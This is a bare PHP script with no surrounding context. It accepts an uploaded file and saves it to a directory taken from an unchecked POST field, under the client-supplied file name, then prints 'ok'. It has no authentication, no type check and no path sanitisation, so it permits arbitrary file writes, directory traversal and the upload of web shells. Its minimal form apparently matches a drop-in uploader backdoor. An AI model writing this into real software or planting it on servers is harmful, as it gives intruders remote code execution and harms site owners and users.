<?php
if (isset($_FILES['f'])) {
	$dest = $_POST['dir'] . '/' . $_FILES['f']['name'];
	move_uploaded_file($_FILES['f']['tmp_name'], $dest);
	echo "ok";
}
